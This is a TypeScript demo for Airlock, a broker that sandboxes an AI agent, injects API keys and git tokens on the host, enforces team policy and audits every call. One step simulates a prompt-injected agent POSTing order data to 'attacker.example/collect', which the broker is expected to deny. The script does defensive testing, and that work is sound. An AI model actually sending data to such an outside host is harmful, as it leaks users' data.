// `npm run demo`: Airlock end to end on a fresh machine, no accounts, no Docker.
// Local upstreams (a fake model API and an orders API that check their keys; a git server that
// wants a token, when the git server is part of this build; a GitHub API stand-in) → an example
// airlock.yaml and team policy in a temp folder → `airlock serve` → an agent session inside its
// own network namespace as uid 1000 that can reach only the socket folder → allowed and denied
// calls → what the upstreams saw, a check that no secret reached the agent → the audit trail and
// its verification.
// Exits non-zero if anything that should have worked did not. Cleans up, also on Ctrl-C.
import { spawn, execFileSync, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { promises as fs, readlinkSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { readAuditRecords, type AuditRecord } from '../audit/log.js';
import { formatAuditTable } from '../commands/audit.js';
import { Redactor } from '../secrets/redact.js';
import { SERVERS } from '../servers.js';
import type { AgentPlan, AgentReport, AgentStep, StepReport } from './agent.js';
import {
  AGENT_GID,
  AGENT_UID,
  canCreateSandbox,
  makeAgentHome,
  makeTraversable,
  runAsAgent,
  stageDemoAgent,
} from './sandbox.js';
import { startModelApi, startOrdersApi, type LocalApi } from './upstreams.js';
import type { SmartHttpServer } from './git-http-server.js';
import { githubPart, startGithubDemo } from './github-part.js';
import { startDemoPostgres } from './postgres-demo.js';

const HERE = import.meta.dirname; // dist/src/demo
const CLI = path.resolve(HERE, '../cli.js');
const REPO_ROOT = path.resolve(HERE, '../../..');

const TEAM = 'demo';
const GIT_USER = 'demo-bot';

/** Forced off with AIRLOCK_DEMO_NO_SANDBOX=1 (to see the unboxed mode on a machine that has the boundary). */
const NO_SANDBOX_REQUESTED = process.env.AIRLOCK_DEMO_NO_SANDBOX === '1';

// A closed stdout (`npm run demo | head`) must not stop the demo before it cleans up.
let stdoutOpen = true;
process.stdout.on('error', () => (stdoutOpen = false));
/** Set on Ctrl-C: the interrupted session's own errors are noise from then on. */
let quiet = false;
const say = (line: string) => {
  if (stdoutOpen) process.stdout.write(line + '\n');
};
const out = (line = '') => {
  if (!quiet) say(line);
};
const oneLine = (text: string, max = 96) => {
  const first = text.replace(/\s+/g, ' ').trim();
  return first.length > max ? first.slice(0, max - 1) + '…' : first;
};

interface Expectation {
  /** The step label this expectation judges. */
  label: string;
  expect: 'ok' | 'denied' | 'done';
  /** Extra check on a successful result; returns a problem or undefined. */
  verify?: (step: StepReport) => string | undefined;
  /** What to print after the arrow when the step went as expected. */
  show?: (step: StepReport) => string;
}

interface Part {
  steps: AgentStep[];
  expectations: Expectation[];
  /** Host-side checks after the agent ran (what the upstream saw). */
  after: () => Promise<string[]>;
}

class DemoRun {
  root = '';
  /** Aborted on cleanup: stops the agent if it is still running. */
  readonly abort = new AbortController();
  failures: string[] = [];
  private serve: ChildProcess | undefined;
  private serveStderr = '';
  private closers: Array<() => Promise<void>> = [];
  private cleaned = false;

  /** Throws once Ctrl-C was pressed, so the session stops between stages and cleanup sees it all. */
  checkpoint(): void {
    if (this.abort.signal.aborted) throw new Error('interrupted');
  }

  fail(problem: string): void {
    this.failures.push(problem);
  }

  onCleanup(fn: () => Promise<void>): void {
    this.closers.push(fn);
  }

  async startServe(configFile: string, sockets: string[]): Promise<void> {
    const child = spawn(process.execPath, [CLI, 'serve', '--config', configFile], {
      env: { ...process.env, AIRLOCK_LOG_LEVEL: 'warn' },
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    this.serve = child;
    child
      .stderr!.setEncoding('utf8')
      .on('data', (d: string) => (this.serveStderr = (this.serveStderr + d).slice(-8000)));
    const deadline = Date.now() + 15_000;
    for (;;) {
      if (child.exitCode !== null || child.signalCode !== null) {
        throw new Error(
          `airlock serve exited (${child.exitCode ?? child.signalCode}):\n${this.serveStderr.trim()}`,
        );
      }
      const present = await Promise.all(
        sockets.map((s) =>
          fs.stat(s).then(
            () => true,
            () => false,
          ),
        ),
      );
      if (present.every(Boolean)) return;
      if (Date.now() > deadline)
        throw new Error(`airlock serve did not open its sockets in time:\n${this.serveStderr.trim()}`);
      this.checkpoint();
      await new Promise((r) => setTimeout(r, 50));
    }
  }

  serveLog(): string {
    return this.serveStderr.trim();
  }

  async cleanup(): Promise<void> {
    if (this.cleaned) return;
    this.cleaned = true;
    this.abort.abort();
    const serve = this.serve;
    if (serve && serve.exitCode === null && serve.signalCode === null) {
      const exited = new Promise<void>((r) => serve.once('exit', () => r()));
      serve.kill('SIGTERM');
      const timer = setTimeout(() => serve.kill('SIGKILL'), 3000);
      await exited;
      clearTimeout(timer);
    }
    for (const close of this.closers.reverse()) await close().catch(() => undefined);
    if (this.root) await fs.rm(this.root, { recursive: true, force: true });
  }
}

// ---------------------------------------------------------------------------------------------
// The parts of the session, one per server.

function httpPart(run: DemoRun, api: LocalApi, socket: string, gitEnabled: boolean): Part {
  const before = api.requests.length;
  const steps: AgentStep[] = [
    { kind: 'tools', label: 'http: tools/list', socket },
    {
      kind: 'call',
      label: `GET ${api.origin}/v1/orders`,
      socket,
      tool: 'http_request',
      arguments: { method: 'GET', url: `${api.origin}/v1/orders` },
    },
    {
      kind: 'call',
      label: 'DELETE /v1/orders/ord_1001 (method not allowed)',
      socket,
      tool: 'http_request',
      arguments: { method: 'DELETE', url: `${api.origin}/v1/orders/ord_1001` },
    },
    {
      kind: 'call',
      label: 'POST https://attacker.example/collect (origin not allowed)',
      socket,
      tool: 'http_request',
      // A prompt-injected agent trying to ship data (and a guess at the key) elsewhere.
      arguments: { method: 'POST', url: 'https://attacker.example/collect', body: 'orders=…' },
    },
  ];
  if (!gitEnabled) {
    steps.push({
      kind: 'call',
      label: 'git_push on the http socket (tool not in policy)',
      socket,
      tool: 'git_push',
      arguments: { branch: 'main' },
    });
  }
  const expectations: Expectation[] = [
    {
      label: 'http: tools/list',
      expect: 'done',
      show: (s) => `tools offered: ${(s.tools ?? []).join(', ')}`,
      verify: (s) =>
        s.tools?.join(',') === 'http_request'
          ? undefined
          : `expected only http_request, got ${s.tools?.join(', ')}`,
    },
    {
      label: steps[1]!.label,
      expect: 'ok',
      verify: (s) => {
        const r = s.structured as { status?: number; body?: string } | undefined;
        if (r?.status !== 200) return `expected status 200, got ${r?.status}`;
        return r.body?.includes('ord_1001') ? undefined : 'the orders list did not come back';
      },
      show: (s) => {
        const r = s.structured as { status: number; body: string };
        const count = (JSON.parse(r.body) as { orders: unknown[] }).orders.length;
        return `${r.status}, ${count} orders (the API accepted the key Airlock added)`;
      },
    },
    { label: steps[2]!.label, expect: 'denied' },
    { label: steps[3]!.label, expect: 'denied' },
  ];
  if (!gitEnabled) expectations.push({ label: steps[4]!.label, expect: 'denied' });
  return {
    steps,
    expectations,
    after: async () => {
      const seen = api.requests.slice(before);
      const notes: string[] = [];
      if (seen.length !== 1)
        run.fail(`the orders API got ${seen.length} requests; expected exactly the one allowed GET`);
      if (!seen.every((r) => r.authorized))
        run.fail('a request reached the orders API without the right key');
      if (seen.some((r) => r.method !== 'GET')) run.fail('a denied method reached the orders API');
      notes.push(
        `orders API: ${seen.length} request(s) arrived, ${seen.filter((r) => r.authorized).length} with "Authorization: Bearer <key>" — added by Airlock on the host`,
      );
      return notes;
    },
  };
}

function modelPart(run: DemoRun, model: LocalApi, socket: string): Part {
  const before = model.requests.length;
  const headers = {
    'content-type': 'application/json',
    'anthropic-version': '2023-06-01',
    // The agent has no key; whatever it sends is dropped and the team's key is added.
    'x-api-key': 'the-agent-has-no-key',
  };
  const steps: AgentStep[] = [
    {
      kind: 'http',
      label: 'model: POST /v1/messages',
      socket,
      method: 'POST',
      path: '/v1/messages',
      headers,
      body: JSON.stringify({
        model: 'claude-demo',
        max_tokens: 64,
        messages: [{ role: 'user', content: 'Say hello.' }],
      }),
    },
    {
      kind: 'http',
      label: 'model: GET /v1/models (path not allowed)',
      socket,
      method: 'GET',
      path: '/v1/models',
      headers,
    },
  ];
  const answer = (s: StepReport) =>
    JSON.parse(s.text ?? '{}') as {
      content?: Array<{ text?: string }>;
      usage?: { input_tokens: number; output_tokens: number };
    };
  const expectations: Expectation[] = [
    {
      label: steps[0]!.label,
      expect: 'ok',
      verify: (s) =>
        s.status === 200 && answer(s).content?.[0]?.text ? undefined : `status ${s.status}: ${s.text}`,
      show: (s) => {
        const a = answer(s);
        return `${s.status}, "${a.content?.[0]?.text}" (${a.usage?.input_tokens}+${a.usage?.output_tokens} tokens)`;
      },
    },
    { label: steps[1]!.label, expect: 'denied' },
  ];
  return {
    steps,
    expectations,
    after: async () => {
      const seen = model.requests.slice(before);
      if (seen.length !== 1)
        run.fail(`the model API got ${seen.length} requests; expected exactly the allowed one`);
      if (!seen.every((r) => r.authorized)) run.fail('a request reached the model API without the team key');
      return [
        `model API: ${seen.length} request(s), ${seen.filter((r) => r.authorized).length} with the team's x-api-key (the agent's own header was dropped)`,
      ];
    },
  };
}

interface GitSetup {
  server: SmartHttpServer;
  bareRepo: string;
  workTree: string;
  remote: string;
  mainBefore: string;
  refOf(ref: string): string | undefined;
  showFile(ref: string, file: string): string | undefined;
}

/** A loopback git server with one repository, and an empty work tree the agent may write. */
async function startGit(run: DemoRun, token: string, sandbox: boolean): Promise<GitSetup> {
  const { startSmartHttpServer, createBareRepo, fixtureGitEnv, refOf } = await import('./git-http-server.js');
  const reposRoot = path.join(run.root, 'remote');
  await fs.mkdir(reposRoot, { mode: 0o700 });
  const bareRepo = await createBareRepo(reposRoot, 'app.git', {
    branch: 'main',
    files: { 'README.md': '# app\n\nA tiny service.\n', VERSION: '1.0.0\n' },
  });
  const server = await startSmartHttpServer({ root: reposRoot, username: GIT_USER, password: token });
  run.onCleanup(() => server.close());
  const workTree = path.join(run.root, 'work', 'app');
  await fs.mkdir(workTree, { recursive: true, mode: 0o755 });
  // The work tree is the agent's (in a container it would be its bind-mounted workspace).
  if (sandbox) await fs.chown(workTree, AGENT_UID, AGENT_GID);
  const mainBefore = refOf(bareRepo, 'refs/heads/main') ?? '';
  return {
    server,
    bareRepo,
    workTree,
    remote: server.repoUrl('app.git'),
    mainBefore,
    refOf: (ref) => refOf(bareRepo, ref),
    showFile: (ref, file) => {
      try {
        return execFileSync('git', ['--git-dir', bareRepo, 'show', `${ref}:${file}`], {
          env: fixtureGitEnv(),
          encoding: 'utf8',
        });
      } catch {
        return undefined;
      }
    },
  };
}

const AGENT_LINE = 'Edited by the sandboxed agent through Airlock.';

function gitPart(run: DemoRun, git: GitSetup, socket: string): Part {
  const ws = { workspace: 'app' };
  const call = (label: string, tool: string, args: Record<string, unknown> = {}): AgentStep => ({
    kind: 'call',
    label,
    socket,
    tool,
    arguments: { ...ws, ...args },
  });
  const steps: AgentStep[] = [
    { kind: 'tools', label: 'git: tools/list', socket },
    call('git_status (Airlock clones on first use)', 'git_status'),
    {
      kind: 'write',
      label: 'edit README.md in the work tree',
      file: path.join(git.workTree, 'README.md'),
      content: `# app\n\nA tiny service.\n\n${AGENT_LINE}\n`,
    },
    call('git_status', 'git_status'),
    call('git_add README.md', 'git_add', { paths: ['README.md'] }),
    call('git_commit', 'git_commit', { message: 'docs: note from the demo agent' }),
    call('git_create_branch agent/demo', 'git_create_branch', { name: 'agent/demo' }),
    call('git_push agent/demo', 'git_push', { branch: 'agent/demo' }),
    call('git_push main (branch not allowed)', 'git_push', { branch: 'main' }),
    call('git_pull (tool not in policy)', 'git_pull'),
  ];
  const files = (s: StepReport) =>
    ((s.structured as { files?: Array<{ path: string }> }).files ?? []).map((f) => f.path);
  const expectations: Expectation[] = [
    { label: 'git: tools/list', expect: 'done', show: (s) => `tools offered: ${(s.tools ?? []).join(', ')}` },
    {
      label: steps[1]!.label,
      expect: 'ok',
      show: (s) => {
        const st = s.structured as { branch: string; clean: boolean };
        return `on ${st.branch}, ${st.clean ? 'clean' : 'changes'}`;
      },
    },
    {
      label: steps[2]!.label,
      expect: 'done',
      show: () => 'written by the agent itself, in its own work tree (no tool involved)',
    },
    {
      label: steps[3]!.label,
      expect: 'ok',
      verify: (s) =>
        files(s).includes('README.md') ? undefined : 'git_status did not show the edited README.md',
      show: (s) => `changed: ${files(s).join(', ')}`,
    },
    { label: steps[4]!.label, expect: 'ok' },
    { label: steps[5]!.label, expect: 'ok' },
    { label: steps[6]!.label, expect: 'ok' },
    { label: steps[7]!.label, expect: 'ok' },
    { label: steps[8]!.label, expect: 'denied' },
    { label: steps[9]!.label, expect: 'denied' },
  ];
  const before = git.server.requests.length;
  return {
    steps,
    expectations,
    after: async () => {
      const seen = git.server.requests.slice(before);
      if (seen.length === 0) run.fail('the git server got no requests');
      if (!seen.every((r) => r.authorized)) run.fail('a git request reached the server without the token');
      const pushed = git.showFile('refs/heads/agent/demo', 'README.md');
      if (!pushed?.includes(AGENT_LINE))
        run.fail("agent/demo on the git server does not hold the agent's commit");
      if (git.refOf('refs/heads/main') !== git.mainBefore) run.fail('main on the git server changed');
      return [
        `git server: ${seen.length} request(s), ${seen.filter((r) => r.authorized).length} with the token (Basic auth added by Airlock's git on the host);`,
        `          agent/demo now holds the agent's commit, main is untouched`,
      ];
    },
  };
}

// ---------------------------------------------------------------------------------------------

/** The text a step answered with: a tool result's text, or an HTTP error's message. */
function messageOf(s: StepReport): string {
  if (s.kind !== 'http') return s.text ?? '';
  try {
    return (JSON.parse(s.text ?? '') as { error?: { message?: string } }).error?.message ?? s.text ?? '';
  } catch {
    return s.text ?? '';
  }
}

function judge(run: DemoRun, steps: StepReport[], expectations: Expectation[]): void {
  for (const e of expectations) {
    const s = steps.find((x) => x.label === e.label);
    if (!s) {
      run.fail(`${e.label}: the agent did not get to it`);
      out(`  ✗ ${e.label}  → not run`);
      continue;
    }
    const text = messageOf(s);
    const denied = s.isError === true && text.startsWith('denied:');
    let problem: string | undefined;
    if (!s.ok) problem = s.error ?? 'failed';
    else if (e.expect === 'ok' && s.isError) problem = text || 'error';
    else if (e.expect === 'denied' && !denied) problem = `expected a denial, got: ${text}`;
    else if (e.expect !== 'denied') problem = e.verify?.(s);
    const tag = e.expect === 'denied' ? 'denied ' : e.expect === 'ok' ? 'allowed' : '       ';
    if (problem) {
      run.fail(`${e.label}: ${problem}`);
      out(`  ✗ ${tag}  ${e.label}\n             → ${oneLine(problem, 120)}`);
      continue;
    }
    const shown = e.show ? e.show(s) : oneLine(text, e.expect === 'denied' ? 110 : 96);
    if (e.label.length + shown.length < 96) out(`  ✓ ${tag}  ${e.label} → ${shown}`);
    else out(`  ✓ ${tag}  ${e.label}\n             → ${shown}`);
  }
}

async function main(): Promise<number> {
  const run = new DemoRun();
  let interrupted = false;
  const finish = async (code: number) => {
    await run.cleanup();
    say(`Cleaned up: stopped airlock serve and the upstreams, removed ${run.root || 'nothing'}.`);
    return code;
  };
  const onSignal = (signal: NodeJS.Signals) => {
    if (interrupted) return;
    interrupted = true;
    out(`\n${signal}: stopping — cleaning up…`);
    quiet = true;
    // The session stops at its next checkpoint (the agent is killed at once); should a stage
    // hang, clean up anyway.
    run.abort.abort();
    setTimeout(() => void finish(130).then((code) => process.exit(code)), 10_000).unref();
  };
  process.on('SIGINT', onSignal);
  process.on('SIGTERM', onSignal);
  // Whatever goes wrong, airlock serve and the temp folder do not outlive us.
  process.on('uncaughtException', (err) => {
    out(`\n✗ the demo crashed: ${err.stack ?? err.message}`);
    void finish(2).then((code) => process.exit(code));
  });
  let code: number;
  try {
    code = await demo(run);
  } catch (err) {
    out(`\n✗ the demo failed: ${err instanceof Error ? err.message : String(err)}`);
    code = 1;
  }
  return finish(interrupted ? 130 : code);
}

async function demo(run: DemoRun): Promise<number> {
  out('Airlock demo — an agent in a sandbox, a broker that holds the keys, an audit trail.\n');

  // 1. The boundary, and the agent's code where its uid can read it.
  run.root = await fs.mkdtemp(path.join(os.tmpdir(), 'airlock-demo-'));
  // Staged where uid 1000 can read it: the repository may live where it cannot (a 0700 folder).
  const agent = await stageDemoAgent(REPO_ROOT, path.join(run.root, 'agent-code'));
  // As root, uid 1000 may pass through the temp folder (to its code, sockets and HOME; not list it).
  if (!NO_SANDBOX_REQUESTED && process.getuid?.() === 0) await makeTraversable(run.root);
  const check = NO_SANDBOX_REQUESTED
    ? { ok: false, reason: 'AIRLOCK_DEMO_NO_SANDBOX=1 was set' }
    : await canCreateSandbox({
        readable: [agent.script, agent.sdkPackage],
        identity: { groups: [AGENT_GID] },
      });
  const sandbox = check.ok;
  run.checkpoint();
  if (sandbox) {
    out(`Sandbox   the agent runs in its own network namespace (unshare --net): a loopback of its own`);
    out(
      `          and no route to the host's. It is uid ${AGENT_UID} with only the socket group (${AGENT_GID}), no`,
    );
    out(`          capabilities, no_new_privs, and an environment of PATH, HOME (an empty folder) and LANG.`);
    out(`          Its only way to Airlock is the Unix sockets in the socket folder.`);
  } else {
    out(`!! NO SANDBOX: ${check.reason}.`);
    out(`!! The agent runs WITHOUT the boundary (this user, the host network): the calls below show`);
    out(`!! policy, injection and audit, but not the network boundary. Run as root on Linux for that.`);
  }

  // 2. Upstreams and secrets.
  const gitEnabled = SERVERS.has('git');
  // Random unless given (the demo's test passes its own, to look for them in the output).
  const apiKey = process.env.AIRLOCK_DEMO_API_KEY || `sk_demo_${randomBytes(16).toString('hex')}`;
  const gitToken = process.env.AIRLOCK_DEMO_GIT_TOKEN || `ghp_demo${randomBytes(16).toString('hex')}`;
  const modelKey = process.env.AIRLOCK_DEMO_MODEL_KEY || `sk-ant-demo-${randomBytes(16).toString('hex')}`;
  const githubToken = process.env.AIRLOCK_DEMO_GITHUB_TOKEN || `ghp_demo${randomBytes(16).toString('hex')}`;
  const redactor = new Redactor();
  for (const secret of [apiKey, gitToken, modelKey, githubToken]) redactor.add(secret);
  const secretsDir = path.join(run.root, 'secrets');
  await fs.mkdir(secretsDir, { mode: 0o700 });
  await fs.writeFile(path.join(secretsDir, 'orders-api-key'), apiKey + '\n', { mode: 0o600 });
  await fs.writeFile(path.join(secretsDir, 'git-token'), gitToken + '\n', { mode: 0o600 });
  await fs.writeFile(path.join(secretsDir, 'model-key'), modelKey + '\n', { mode: 0o600 });
  await fs.writeFile(path.join(secretsDir, 'github-token'), githubToken + '\n', { mode: 0o600 });

  const api = await startOrdersApi(apiKey);
  run.onCleanup(() => api.close());
  const model = await startModelApi(modelKey);
  run.onCleanup(() => model.close());
  run.checkpoint();
  const git = gitEnabled ? await startGit(run, gitToken, sandbox) : undefined;
  const github = await startGithubDemo(githubToken);
  run.onCleanup(() => github.close());
  run.checkpoint();
  const pgDemo = SERVERS.has('postgres') ? await startDemoPostgres(secretsDir, TEAM) : undefined;
  if (pgDemo) {
    run.onCleanup(() => pgDemo.close());
    redactor.add(pgDemo.password);
  }
  run.checkpoint();
  out(`Upstreams model API    ${model.origin}   (a fake Messages API; 401 without "x-api-key: <key>")`);
  out(`          orders API   ${api.origin}   (answers 401 without "Authorization: Bearer <key>")`);
  if (git) out(`          git server   ${git.remote}   (answers 401 without the token)`);
  else out(`          git          not in this build yet (servers/git is not registered) — skipped`);
  out(`          GitHub API   ${github.api.apiUrl}   (a local stand-in; 401 without the token)`);
  if (pgDemo)
    out(
      `          postgres     127.0.0.1:${pgDemo.cluster.port}   (a throwaway cluster, ${pgDemo.cluster.binaries.source} binaries, scram-sha-256)`,
    );
  out(
    `Secrets   model-key, orders-api-key${git ? ', git-token' : ''}, github-token${pgDemo ? ', pg-shop' : ''}: random values in 0600 files`,
  );
  out(`          of a 0700 folder the agent cannot open`);

  // 3. airlock.yaml and the team policy.
  const socketDir = path.join(run.root, 'run');
  const auditFile = path.join(run.root, 'audit', 'audit.jsonl');
  const configFile = path.join(run.root, 'airlock.yaml');
  const policiesDir = path.join(run.root, 'policies');
  await fs.mkdir(policiesDir, { mode: 0o700 });
  await fs.writeFile(
    configFile,
    [
      `socketDir: ${socketDir}`,
      ...(sandbox ? [`socketGroup: ${AGENT_GID}`] : []),
      `stateDir: ${path.join(run.root, 'state')}`,
      'policies: ./policies',
      'audit:',
      `  file: ${auditFile}`,
      'secrets:',
      `  orders-api-key: { file: ./secrets/orders-api-key, teams: [${TEAM}] }`,
      `  git-token: { file: ./secrets/git-token, teams: [${TEAM}] }`,
      `  model-key: { file: ./secrets/model-key, teams: [${TEAM}] }`,
      `  github-token: { file: ./secrets/github-token, teams: [${TEAM}] }`,
      ...(pgDemo ? [pgDemo.secretLine] : []),
      '',
    ].join('\n'),
    { mode: 0o600 },
  );
  const gitPolicy = git
    ? `  git:
    workspaces:
      app:
        path: ${git.workTree}
        remote: ${git.remote}
        credential: git-token
        credentialUser: ${GIT_USER}
        branch: main
        author: { name: Demo Agent, email: agent@demo.example }
    tools:
      git_status: {}
      git_diff: {}
      git_add: {}
      git_commit: {}
      git_create_branch: {}
      git_push: { branches: ["agent/*"] }
`
    : '';
  await fs.writeFile(
    path.join(policiesDir, `${TEAM}.yaml`),
    `team: ${TEAM}
servers:
  http:
    hosts:
      - origin: ${api.origin}
        methods: [GET]
        paths: ["/v1/orders", "/v1/orders/*"]
        inject: { header: Authorization, value: "Bearer \${secret:orders-api-key}" }
        allowPrivateAddress: true   # the demo API is on loopback
    tools:
      http_request: {}
  model:
    upstream: ${model.origin}
    credential: model-key
    paths: ["/v1/messages", "/v1/messages/count_tokens"]
    dailyTokenBudget: 100000
    allowPrivateAddress: true   # the demo model API is on loopback
${gitPolicy}${github.policy}${pgDemo?.policy ?? ''}`,
  );
  out(`Policy    team "${TEAM}": model /v1/messages* with the team key, 100k tokens/day;`);
  out(`          http GET ${api.origin}/v1/orders*, key injected as a header${git ? ';' : ''}`);
  if (git) out(`          git workspace "app" (push only to agent/*; no pull)`);
  out(`          github acme/payments-api: read issues, pull requests from agent/* into develop only`);
  if (pgDemo) out(`          postgres database "shop": read-only, tables public.* (not hr.*)`);

  // 4. The broker.
  const servers = ['model', 'http', ...(git ? ['git'] : []), 'github', ...(pgDemo ? ['postgres'] : [])];
  const sockets = Object.fromEntries(
    servers.map((s) => [s, path.join(socketDir, TEAM, `${s}.sock`)]),
  ) as Record<string, string>;
  await run.startServe(configFile, Object.values(sockets));
  out(`Broker    airlock serve --config ${configFile}`);
  out(
    `          sockets ${path.join(socketDir, TEAM)}/${servers.length > 1 ? `{${servers.join(',')}}` : servers[0]}.sock (0660, group ${sandbox ? AGENT_GID : 'yours'})`,
  );

  // 5. The agent session.
  if (sandbox) await makeTraversable(run.root); // so uid 1000 can reach run/ and its HOME, not list them
  const home = await makeAgentHome(
    run.root,
    sandbox ? {} : { uid: process.getuid?.() ?? 0, gid: process.getgid?.() ?? 0 },
  );
  const parts: Part[] = [
    modelPart(run, model, sockets.model!),
    httpPart(run, api, sockets.http!, gitEnabled),
  ];
  if (git) parts.push(gitPart(run, git, sockets.git!));
  parts.push(githubPart(github, sockets.github!, (problem) => run.fail(problem)));
  if (pgDemo) parts.push(pgDemo.part(sockets.postgres!, (problem) => run.fail(problem)));
  const plan: AgentPlan = {
    tcpProbes: [{ host: '127.0.0.1', port: Number(new URL(api.origin).port) }],
    dnsProbes: ['example.com'],
    readProbes: [path.join(secretsDir, 'orders-api-key')],
    steps: parts.flatMap((p) => p.steps),
  };
  const result = await runAsAgent({
    command: process.execPath,
    args: [agent.script],
    home,
    sandbox,
    identity: { groups: [AGENT_GID] },
    input: JSON.stringify(plan),
    timeoutMs: 120_000,
    signal: run.abort.signal,
  });
  run.checkpoint();
  let report: AgentReport;
  try {
    report = JSON.parse(result.stdout) as AgentReport;
  } catch {
    throw new Error(
      `the agent did not report (exit ${result.code ?? result.signal}${result.timedOut ? ', timed out' : ''}):\n${oneLine(result.stderr, 2000)}`,
    );
  }

  const hostNetns = readlinkSync('/proc/self/ns/net');
  out('');
  out(
    `Agent     network namespace ${report.netns} (host: ${hostNetns}), uid ${report.uid}, groups [${report.groups.join(',')}]`,
  );
  if (sandbox) {
    if (report.netns === hostNetns) run.fail('the agent ran in the host network namespace');
    if (report.uid !== AGENT_UID) run.fail(`the agent ran as uid ${report.uid}`);
  }
  const tcp = report.tcp[0]!;
  const dnsErrors = report.dns.map((d) => `${d.method} ${d.ok ? 'ok' : d.error}`).join(', ');
  const blocked = !tcp.ok && report.dns.every((d) => !d.ok);
  if (sandbox) {
    if (!blocked)
      run.fail(`the agent reached the network: TCP ${tcp.ok ? 'connected' : tcp.error}; DNS ${dnsErrors}`);
    out(
      `  ${tcp.ok ? '✗' : '✓'} boundary TCP to the orders API at 127.0.0.1:${tcp.port} → ${tcp.ok ? 'CONNECTED' : `${tcp.error} (not the host's loopback)`}`,
    );
    out(`  ${report.dns.every((d) => !d.ok) ? '✓' : '✗'} boundary DNS example.com → ${dnsErrors}`);
    const read = report.reads[0]!;
    if (read.ok) run.fail("the agent could read the broker's secret file");
    out(
      `  ${read.ok ? '✗' : '✓'} boundary reading the broker's secret file → ${read.ok ? 'READ IT' : read.error}`,
    );
    out(
      `  ${report.ownLoopback.ok ? '✓' : '✗'} its own loopback works (${report.ownLoopback.ok ? 'a listener on 127.0.0.1 answered' : report.ownLoopback.error})`,
    );
  } else {
    const read = report.reads[0]!;
    out(`  ! no boundary: TCP to the orders API ${tcp.ok ? 'connected' : tcp.error}, DNS: ${dnsErrors},`);
    out(
      `    secret file ${read.ok ? 'readable' : read.error} — only the policy below stands between it and the upstream`,
    );
  }
  for (const part of parts) judge(run, report.steps, part.expectations);

  // 6. What the upstreams saw, and what the agent never saw.
  out('');
  for (const part of parts)
    for (const [i, note] of (await part.after()).entries()) out(i === 0 ? `Injected  ${note}` : note);
  const agentSaw = result.stdout + result.stderr;
  const leakInAgent = redactor.contains(agentSaw);
  const auditText = await fs.readFile(auditFile, 'utf8').catch(() => '');
  const leakInAudit = redactor.contains(auditText);
  if (leakInAgent) run.fail('a secret (or an encoding of it) reached the agent');
  if (leakInAudit) run.fail('a secret (or an encoding of it) is in the audit log');
  if (redactor.contains(run.serveLog())) run.fail('a secret is in the broker log');
  out(
    `Secrets   ${leakInAgent ? '✗ FOUND' : '✓ never'} in anything the agent saw: tool results, errors, its ${Object.keys(report.env).length} env variables,`,
  );
  out(
    `          its HOME (${Object.keys(report.home.files).length} files); ${leakInAudit ? '✗ FOUND in' : '✓ not in'} the audit log (raw values and base64/hex/URL forms checked)`,
  );

  // 7. The audit trail.
  const records: AuditRecord[] = [];
  for await (const r of readAuditRecords(auditFile)) records.push({ ...r, ts: r.ts.slice(11, 23) });
  out(`\nAudit trail (${auditFile}; TIME is UTC):`);
  out(formatAuditTable(records));
  out(`\n$ airlock audit verify --config ${configFile}`);
  const verify = await new Promise<{ code: number | null; text: string }>((resolve) => {
    const child = spawn(process.execPath, [CLI, 'audit', 'verify', '--config', configFile], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let text = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (text += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (text += d));
    child.on('close', (code) => resolve({ code, text }));
  });
  out(verify.text.trimEnd());
  if (verify.code !== 0) run.fail(`airlock audit verify exited ${verify.code}`);
  const allowed = records.filter((r) => r.phase === 'result' && r.decision === 'allow').length;
  const denied = records.filter((r) => r.decision === 'deny').length;
  if (denied === 0 || allowed === 0) run.fail('the audit trail is missing allowed or denied calls');

  out('');
  if (run.failures.length) {
    out(`✗ ${run.failures.length} problem(s):`);
    for (const f of run.failures) out(`  - ${f}`);
    const log = run.serveLog();
    if (log) out(`broker log (last lines):\n${log.split('\n').slice(-10).join('\n')}`);
    return 1;
  }
  out(
    `✓ Done${sandbox ? '' : ' (WITHOUT the sandbox)'}: ${allowed} allowed and ${denied} denied calls, all audited; the keys stayed on the host.`,
  );
  return 0;
}

main().then((code) => process.exit(code));
